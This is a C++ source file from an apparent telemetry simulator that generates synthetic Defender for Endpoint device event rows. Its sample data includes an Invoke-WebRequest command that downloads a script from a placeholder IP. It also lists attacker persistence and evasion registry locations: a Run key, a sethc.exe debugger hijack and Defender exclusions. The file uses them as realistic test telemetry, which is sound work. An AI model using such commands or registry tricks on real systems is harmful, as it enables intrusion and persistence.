// Defender for Endpoint's event tables: what happened on a device.
#include <array>
#include <string_view>

#include "rows.h"

namespace streamsim {
namespace {

using namespace std::string_view_literals;

template <typename T, std::size_t N>
const T &one_of(Row &row, const std::array<T, N> &items) {
  return items[row.rng.below(N)];
}

constexpr std::array kNetworkActions{"ConnectionSuccess"sv, "ConnectionFailed"sv, "InboundConnectionAccepted"sv,
                                     "ListeningConnectionCreated"sv, "ConnectionAttempt"sv};
constexpr std::array kFileActions{"FileCreated"sv, "FileModified"sv, "FileRenamed"sv, "FileDeleted"sv};
constexpr std::array kRegistryActions{"RegistryValueSet"sv, "RegistryKeyCreated"sv, "RegistryKeyDeleted"sv,
                                      "RegistryValueDeleted"sv};
constexpr std::array kRegistryKeys{
    R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run)"sv,
    R"(HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\UpdaterSvc)"sv,
    R"(HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths)"sv,
    R"(HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Outlook\Security)"sv,
    R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe)"sv,
};
constexpr std::array kLogonTypes{"Interactive"sv, "Network"sv, "RemoteInteractive"sv, "Unlock"sv,
                                 "Service"sv,     "Batch"sv,   "CachedInteractive"sv};
constexpr std::array kLogonProtocols{"Kerberos"sv, "NTLM"sv, "Negotiate"sv};
constexpr std::array kLogonFailures{"InvalidUserNameOrPassword"sv, "AccountLocked"sv, "UserLogonTypeNotGranted"sv};
constexpr std::array kDeviceActions{"AntivirusDetection"sv,
                                    "PowerShellCommand"sv,
                                    "UsbDriveMounted"sv,
                                    "ExploitGuardNetworkProtectionBlocked"sv,
                                    "AsrOfficeChildProcessBlocked"sv,
                                    "DnsQueryResponse"sv,
                                    "ScheduledTaskCreated"sv,
                                    "NamedPipeEvent"sv,
                                    "OpenProcessApiCall"sv,
                                    "SmartScreenUrlWarning"sv};

void network_ends(Columns &columns, Row &row, const Device &device, bool remote_private) {
  const Site &site = pick(row.rng, row.estate.sites);
  columns.id("RemoteIP", remote_private ? private_ip(row) : site.ip);
  columns.number("RemotePort", remote_private ? one_of(row, std::array{445, 3389, 5985, 135, 22}) : site.port);
  columns.text_or_null("RemoteUrl", remote_private ? "" : site.url);
  columns.id("LocalIP", device.local_ip);
  columns.number("LocalPort", row.rng.between(49'152, 65'535));
  columns.id("Protocol", row.rng.chance(85) ? "Tcp" : "Udp");
  columns.id("LocalIPType", "Private");
  columns.id("RemoteIPType", remote_private ? "Private" : "Public");
}

}  // namespace

void device_process_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const FileInfo &program = program_for(row, device);
  const Account &account = some_account(row);
  device_columns(columns, device);
  columns.id("ActionType", "ProcessCreated");
  file_columns(columns, program);
  columns.number("FileSize", program.size);
  columns.text_or_null("ProcessVersionInfoCompanyName", program.company);
  columns.text_or_null("ProcessVersionInfoProductName", program.company.empty() ? "" : program.name);
  columns.number("ProcessId", row.rng.between(4, 65'000));
  columns.text("ProcessCommandLine", command_line(row, program, account));
  columns.id("ProcessIntegrityLevel", one_of(row, std::array{"Medium"sv, "High"sv, "System"sv, "Low"sv}));
  columns.id("ProcessTokenElevation", row.rng.chance(60) ? "TokenElevationTypeDefault" : "TokenElevationTypeFull");
  columns.time("ProcessCreationTime", row.timestamp);
  account_columns(columns, account);
  columns.number("LogonId", row.rng.between(100'000, 99'999'999));
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
  columns.json_string(
      "AdditionalFields",
      row.rng.chance(50) ? R"({"ProcessStartKey":)" + std::to_string(row.rng.between(1, 1'000'000)) + "}" : "");
}

void device_network_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  device_columns(columns, device);
  columns.id("ActionType", one_of(row, kNetworkActions));
  network_ends(columns, row, device, row.rng.chance(30));
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
  columns.json_string("AdditionalFields", R"({"direction":"Out","tls_version":"1.3"})");
}

void device_file_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const FileInfo &file = pick(row.rng, row.estate.documents);
  const std::string_view action = one_of(row, kFileActions);
  device_columns(columns, device);
  columns.id("ActionType", action);
  file_columns(columns, file);
  const bool downloaded = row.rng.chance(30);
  columns.text_or_null("FileOriginUrl", downloaded ? pick(row.rng, row.estate.sites).url : "");
  columns.text_or_null("FileOriginReferrerUrl", downloaded ? "https://www.bing.com/" : "");
  columns.id_or_null("FileOriginIP", downloaded ? std::optional(public_ip(row)) : std::nullopt);
  const bool renamed = action == "FileRenamed";
  columns.text_or_null("PreviousFolderPath", renamed ? R"(C:\Users\Public\Downloads)" : "");
  columns.text_or_null("PreviousFileName", renamed ? "download.tmp" : "");
  columns.number("FileSize", file.size);
  initiating_process_columns(columns, row, device);
  columns.id("RequestProtocol", row.rng.chance(20) ? "SMB" : "Local");
  columns.text_or_null("ShareName", row.rng.chance(20) ? "share$" : "");
  columns.id_or_null("SensitivityLabel",
                     row.rng.chance(20) ? std::optional<std::string>("Confidential") : std::nullopt);
  device_row_end(columns, row, device);
}

void device_registry_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const std::string_view action = one_of(row, kRegistryActions);
  const bool value = action.find("Value") != std::string_view::npos;
  device_columns(columns, device);
  columns.id("ActionType", action);
  columns.text("RegistryKey", one_of(row, kRegistryKeys));
  columns.id("RegistryValueType", value ? "String" : "");
  columns.text_or_null("RegistryValueName", value ? "Updater" : "");
  columns.text_or_null("RegistryValueData", value ? R"("C:\ProgramData\updater.exe" -silent)" : "");
  columns.text_or_null("PreviousRegistryKey", "");
  columns.text_or_null("PreviousRegistryValueName", action == "RegistryValueSet" ? "Updater" : "");
  columns.text_or_null("PreviousRegistryValueData", action == "RegistryValueSet" ? "1" : "");
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
}

void device_logon_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const bool failed = row.rng.chance(20);
  device_columns(columns, device);
  columns.id("ActionType", failed ? "LogonFailed" : "LogonSuccess");
  const Account &account = some_account(row);
  columns.id("AccountDomain", account.domain);
  columns.text("AccountName", account.name);
  columns.id("AccountSid", account.sid);
  columns.id("Protocol", one_of(row, kLogonProtocols));
  columns.id_or_null("FailureReason", failed ? std::optional(std::string(one_of(row, kLogonFailures))) : std::nullopt);
  columns.id("LogonType", one_of(row, kLogonTypes));
  columns.number("LogonId", row.rng.between(100'000, 99'999'999));
  const bool remote = row.rng.chance(50);
  columns.text_or_null("RemoteDeviceName", remote ? pick(row.rng, row.estate.devices).name : "");
  columns.id_or_null("RemoteIP", remote ? std::optional(private_ip(row)) : std::nullopt);
  columns.id("RemoteIPType", remote ? "Private" : "");
  if (remote)
    columns.number("RemotePort", row.rng.between(49'152, 65'535));
  else
    columns.null("RemotePort");
  columns.boolean("IsLocalAdmin", row.rng.chance(15));
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
  columns.json_string("AdditionalFields", R"({"IsLocalLogon":)" + std::string(remote ? "false" : "true") + "}");
}

void device_image_load_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const FileInfo &library = pick(row.rng, row.estate.libraries);
  device_columns(columns, device);
  columns.id("ActionType", "ImageLoaded");
  file_columns(columns, library);
  columns.number("FileSize", library.size);
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
}

void device_events(Columns &columns, Row &row) {
  const Device &device = pick(row.rng, row.estate.devices);
  const std::string_view action = one_of(row, kDeviceActions);
  const FileInfo &file = pick(row.rng, row.estate.documents);
  const Account &account = some_account(row);
  const bool network = action == "ExploitGuardNetworkProtectionBlocked" || action == "SmartScreenUrlWarning" ||
                       action == "DnsQueryResponse";
  device_columns(columns, device);
  columns.id("ActionType", action);
  file_columns(columns, file);
  columns.number("FileSize", file.size);
  columns.text_or_null("AccountDomain", account.domain);
  columns.text_or_null("AccountName", account.name);
  columns.id("AccountSid", account.sid);
  if (network) {
    network_ends(columns, row, device, false);
  } else {
    for (const auto name :
         {"RemoteUrl"sv, "RemoteDeviceName"sv, "RemoteIP"sv, "RemotePort"sv, "LocalIP"sv, "LocalPort"sv})
      columns.null(name);
  }
  columns.number("ProcessId", row.rng.between(4, 65'000));
  columns.text("ProcessCommandLine", command_line(row, program_for(row, device), account));
  columns.text_or_null("RegistryKey", action == "ScheduledTaskCreated" ? kRegistryKeys[0] : "");
  columns.text_or_null("RegistryValueName", "");
  columns.text_or_null("RegistryValueData", "");
  initiating_process_columns(columns, row, device);
  device_row_end(columns, row, device);
  std::string fields;
  if (action == "AntivirusDetection")
    fields = R"({"ThreatName":"Trojan:Win32/Wacatac.B!ml","WasRemediated":true,"Container":null})";
  else if (action == "PowerShellCommand")
    fields = R"({"Command":"Invoke-WebRequest -Uri http://198.51.100.23/a.ps1 -OutFile $env:TEMP\\a.ps1"})";
  else if (action == "UsbDriveMounted")
    fields = R"({"DriveLetter":"E:","ProductName":"Cruzer Blade","SerialNumber":"4C530001230621118023"})";
  columns.json_string("AdditionalFields", fields);
}

}  // namespace streamsim
